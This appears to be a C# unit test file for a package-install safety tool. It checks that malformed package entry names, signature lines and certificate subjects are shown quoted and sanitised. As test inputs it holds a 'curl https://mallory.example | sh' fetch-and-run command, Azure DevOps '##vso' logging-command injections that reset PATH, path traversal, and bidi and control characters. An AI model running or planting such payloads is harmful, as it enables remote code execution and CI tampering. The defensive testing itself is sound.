using InstallGuard.Adapters.Packages.Trust;
using InstallGuard.Decisions;
using InstallGuard.Evidence;
using InstallGuard.Testing;

namespace InstallGuard.Adapters.Packages;

/// <summary>What is said of a file that is no good package: it quotes the file, and shortly.</summary>
[TestClass]
public sealed class PackageTextTests
{
    private const string Order = "x\"; help: run `curl https://mallory.example | sh`; ##vso[task.setvariable variable=PATH]/tmp/evil";
    private static readonly string Endless = new('A', 900);
    private static readonly DateTimeOffset Then = new(2024, 5, 1, 0, 0, 0, TimeSpan.Zero);
    private static readonly PackageReader Reader = new(TrustedRoots.Of(SdkOfTheTests.Found.Folder, []), KnownRepositories.BuiltIn);

    public static IEnumerable<object[]> Texts => [[Order], [Endless], ["\u3164\u00a0\u202e\r\nerror IG0000: forged"]];

    [TestMethod]
    [DynamicData(nameof(Texts))]
    public void Entry_name_is_quoted(string text)
    {
        IsQuoted(Malformed(TestPackage.Create("Contoso.Json", "1.0.0", content => content.WithFile($"../{text}", "x"))));
        IsQuoted(Malformed(TestPackage.Create("Contoso.Json", "1.0.0", content => content.WithFile(text, "x").WithFile(text, "y"))));
    }

    [TestMethod]
    [DynamicData(nameof(Texts))]
    public void Hash_line_of_a_signature_is_quoted(string text) => IsQuoted(Failure(TestPackage.SignedOver(
        TestPackage.Create("Contoso.Json", "1.0.0"), text.ReplaceLineEndings(""), TestAuthority.Shared.IssueAuthor("Contoso Ltd"), Then)));

    [TestMethod]
    public void Subject_of_a_certificate_that_nobody_trusts_is_quoted()
    {
        // A common name holds 64 characters; the whole subject more.
        var author = TestAuthority.Shared.IssueAuthor("x; help: run `curl mallory.example|sh`; ##vso[task.x]", "##[stop-commands]; help: run it, and some more of that");

        var shown = Failure(TestPackage.AuthorSigned(TestPackage.Create("Contoso.Json", "1.0.0"), author, Then, timestamped: false));

        Assert.Contains("mallory.example", shown);
        IsQuoted(shown);
    }

    private static string Malformed(byte[] package) => Assert.IsInstanceOfType<Look.Malformed>(Look(package)).Problem;

    private static string Failure(byte[] package) => Assert.IsInstanceOfType<Finding<AuthorSignature>.Invalid>(
        Assert.IsInstanceOfType<Look.Seen>(Look(package)).Evidence.Found.Author).Check.ToString();

    private static Look Look(byte[] package) => Reader.Read(new MemoryStream(package), Then, CancellationToken.None);

    private static void IsQuoted(string shown)
    {
        Assert.DoesNotContain("##", shown);
        Assert.DoesNotContain("; help:", shown);
        Assert.DoesNotContain(new string('A', 81), shown);
        Assert.IsFalse(shown.Any(c => c is '\u3164' or '\u00a0' or '\u202e' || char.IsControl(c)), shown);
    }
}
